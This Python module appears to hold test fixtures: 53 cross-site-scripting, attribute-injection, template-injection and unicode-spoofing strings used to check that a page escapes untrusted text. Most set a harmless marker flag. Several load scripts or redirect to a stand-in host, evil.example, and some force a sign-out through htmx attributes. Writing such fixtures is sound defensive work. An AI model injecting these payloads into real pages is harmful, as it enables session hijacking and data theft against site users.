"""Fifty-three texts that are markup, or become it where one sign is not escaped; what they would do is told by `__hit`.

Each element and attribute they would make bears `zq`, which no page of ours has, so that a page that is parsed shows it. None
has a sign that XML cannot hold: they are also the names in diagrams.
"""

_DO = "window.__hit=1"

MARKUP = (
    # elements, out of every place a text may stand in
    f"<script zq>{_DO}</script>", f'"><script zq>{_DO}</script>', f"'><script zq>{_DO}</script>",
    f"--><script zq>{_DO}</script>",
    f"</title></textarea></style></option></select></script><script zq>{_DO}</script>", "<zq-a>", "</main></body><zq-b>",
    f"<scr<script zq>ipt>{_DO}</script>", "<ScRiPt zq src=//evil.example/x.js></sCrIpT>", f"]]><zq:c onload={_DO}/>",
    f"<img zq src=x onerror={_DO}>", f'"><img zq src=x onerror="{_DO}">', "<img zq src=x onerror=&#119;indow.__hit=1>",
    f"<svg zq onload={_DO}>", f"<svg zq><script zq>{_DO}</script></svg>",
    f"<svg zq><a xlink:href='javascript:{_DO}'>x</a></svg>",
    f"<math zq><mi xlink:href='javascript:{_DO}'>x</mi></math>", f"<iframe zq src='javascript:{_DO}'></iframe>",
    "<iframe zq srcdoc='<script>parent.__hit=1</script>'></iframe>", "<object zq data='data:text/html,x'></object>",
    "<embed zq src='data:text/html,x'>", "<base zq href=//evil.example/>", "<link zq rel=stylesheet href=//evil.example/x.css>",
    "<meta zq http-equiv=refresh content='0;url=//evil.example/'>", "<style zq>*{display:none}</style>",
    "<form zq action=//evil.example/><button zq>x</button></form>", f"<input zq autofocus onfocus={_DO}>",
    f"<details zq open ontoggle={_DO}>x</details>", f"<a zq href='javascript:{_DO}'>x</a>",
    "<a zq href='data:text/html,x'>x</a>",
    # attributes
    f'" onmouseover="{_DO}" zq="', f"' onfocus='{_DO}' autofocus zq='", f" onclick={_DO} zq=x ",
    '" style="position:fixed" zq="',
    '" hx-get="/sign-out" hx-trigger="load" zq="', "<div zq hx-post=/sign-out hx-trigger=load></div>",
    f"<div zq hx-on:load={_DO}></div>", f"<div zq x-data x-init={_DO}></div>", f'" x-data="{{}}" x-init="{_DO}" zq="',
    f"<button zq @click={_DO} :class=x>x</button>",
    # templates
    "{{191*193}}", "{% print 191*193 %}", "${191*193} #{191*193} <%= 191*193 %>", f"{{{{constructor.constructor('{_DO}')()}}}}",
    # written otherwise, and signs that are not seen
    "&lt;zq-d&gt;", "&quot;&gt;&#60;zq-e&#62;", "%3Czq-f%3E", r"\u003czq-g\u003e", "＜zq-h＞", "\u202egpj.exe\u202c",
    "\u200b\ufeff\u2066x\u2069", '{"zq":"</script><!--<script>"}\u2028\u2029', f"javascript:{_DO}",
)
